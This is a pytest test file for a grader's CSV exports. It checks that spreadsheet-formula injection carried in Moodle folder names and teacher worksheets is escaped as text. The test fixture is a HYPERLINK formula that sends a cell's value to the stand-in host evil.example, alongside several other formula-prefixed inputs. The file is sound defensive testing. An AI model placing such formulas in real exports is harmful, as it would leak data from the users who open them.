"""No CSV the grader writes carries a live spreadsheet formula (OWASP "CSV injection").

A student names their Moodle upload folder, so a name starting with ``=HYPERLINK(...)`` reaches
the gradebook and the Moodle worksheet; it must land there as text.
"""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from grader.intake import discover
from grader.report.exports import MOODLE_FILE, write_exports
from grader.report.gradebook import safe_cell
from grader.results import BatchResult, CheckResult, SubmissionResult

FORMULA = '=HYPERLINK("evil.example?leak="&A1,"click")'  # no "/": it is a folder name


@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+1", "'=1+1"),
    ("+7(999)123", "'+7(999)123"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("-0.5", "-0.5"),  # a plain number cannot run, and a quoted grade would not import
    ("+3", "+3"),
    ("1e-05", "1e-05"),
    ("-", "-"),  # Moodle's own "no date"
    ("Иванов = Петров", "Иванов = Петров"),
    ("", ""),
])
def test_safe_cell(cell: str, shown: str) -> None:
    assert safe_cell(cell) == shown


def _read(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_a_formula_in_a_moodle_folder_name_lands_as_text(tmp_path: Path) -> None:
    root = tmp_path / "moodle-download"
    folder = root / f"{FORMULA}_10234_assignsubmission_file_"
    folder.mkdir(parents=True)
    (folder / "hw.ipynb").write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
                                     encoding="utf-8")
    (sub,) = discover(root, unpack_dir=tmp_path / "unpacked")
    assert sub.student.startswith("=HYPERLINK") and sub.moodle_id == "10234"  # what intake hands on
    result = SubmissionResult(sub.student, "@hw.ipynb", sub.sha256, "error", 0.0, 1.0, 0.0, "-1 cells ran",
                              (CheckResult("a", "=A", "fail", 0.0, 1.0, "m"),), moodle_id=sub.moodle_id)
    out = tmp_path / "out"
    write_exports(BatchResult("t", "2025-01-01T00:00:00+00:00", (result,)), out, ["gradebook", "moodle"],
                  lang="en", moodle_lang="en")
    gradebook = _read(out / "gradebook.csv")
    assert gradebook[1][:3] == ["'" + sub.student, "'@hw.ipynb", "error"]
    assert gradebook[1][-1] == "'-1 cells ran"
    moodle = _read(out / MOODLE_FILE)
    assert moodle[1][1] == "'" + sub.student and moodle[1][2] == "0"
    for rows in (gradebook, moodle):
        for row in rows:
            assert not any(cell[:1] in "=+-@\t\r" and cell not in ("-",) and not _number(cell) for cell in row), row


def test_a_formula_in_the_teachers_worksheet_is_neutralised_too(tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([
        ["Identifier", "Full name", "Grade", "Last modified (grade)", "Feedback comments"],
        ["Participant 10234", FORMULA, "", "-", ""]])
    sheet.write_text(buf.getvalue(), encoding="utf-8")
    result = SubmissionResult("x", "hw.ipynb", "", "graded", 1.0, 1.0, 0.0, None, (), moodle_id="10234")
    write_exports(BatchResult("t", "2025-01-01T00:00:00+00:00", (result,)), tmp_path, ["moodle"], lang="en",
                  moodle_worksheet=sheet)
    row = _read(tmp_path / MOODLE_FILE)[1]
    assert row[1] == "'" + FORMULA and row[2] == "1"


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
